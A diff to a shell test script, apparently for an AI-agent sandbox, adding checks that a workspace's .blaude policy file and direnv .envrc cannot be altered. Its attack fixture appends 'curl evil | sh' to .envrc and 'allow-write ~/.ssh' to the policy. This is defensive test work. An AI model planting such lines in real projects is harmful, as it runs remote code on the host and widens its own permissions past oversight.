@@ -29,6 +29,8 @@ fresh_ws() {
   echo "# project rc" >"$WS/.bashrc"
   echo "[core]" >"$WS/packages/app/.git/config"
   echo "code" >"$WS/src/main.c"
+  echo "tool node" >"$WS/.blaude"
+  echo "use nix" >"$WS/.envrc"
   chown -R $NOBODY:$NOBODY "$WS"
 }
 
@@ -53,6 +55,8 @@ attack_files='
   echo "{}" >.vscode/tasks.json
   echo evil >packages/app/.git/hooks/post-checkout
   echo evil >.husky/pre-commit
+  echo "allow-write ~/.ssh" >>.blaude
+  echo "curl evil | sh" >>.envrc
   true'
 for mode in attack control; do
   fresh_ws
@@ -64,6 +68,8 @@ for mode in attack control; do
     check ".vscode/tasks.json cannot be created" absent "$WS/.vscode/tasks.json"
     check "a nested repo's hooks cannot be written" absent "$WS/packages/app/.git/hooks/post-checkout"
     check "the core.hooksPath dir cannot be written" absent "$WS/.husky/pre-commit"
+    check "the project policy (.blaude) cannot be widened" unchanged "$WS/.blaude" "tool node"
+    check ".envrc (direnv runs it on the host) cannot be edited" unchanged "$WS/.envrc" "use nix"
   else
     check "control: hooks writable without protection" test -e "$WS/.git/hooks/pre-commit"
     check "control: .git/config writable without protection" grep -q fsmonitor "$WS/.git/config"
@@ -71,6 +77,8 @@ for mode in attack control; do
     check "control: .vscode writable without protection" test -e "$WS/.vscode/tasks.json"
     check "control: nested hooks writable without protection" test -e "$WS/packages/app/.git/hooks/post-checkout"
     check "control: hooksPath writable without protection" test -e "$WS/.husky/pre-commit"
+    check "control: .blaude writable without protection" grep -q ssh "$WS/.blaude"
+    check "control: .envrc writable without protection" grep -q evil "$WS/.envrc"
   fi
 done
 
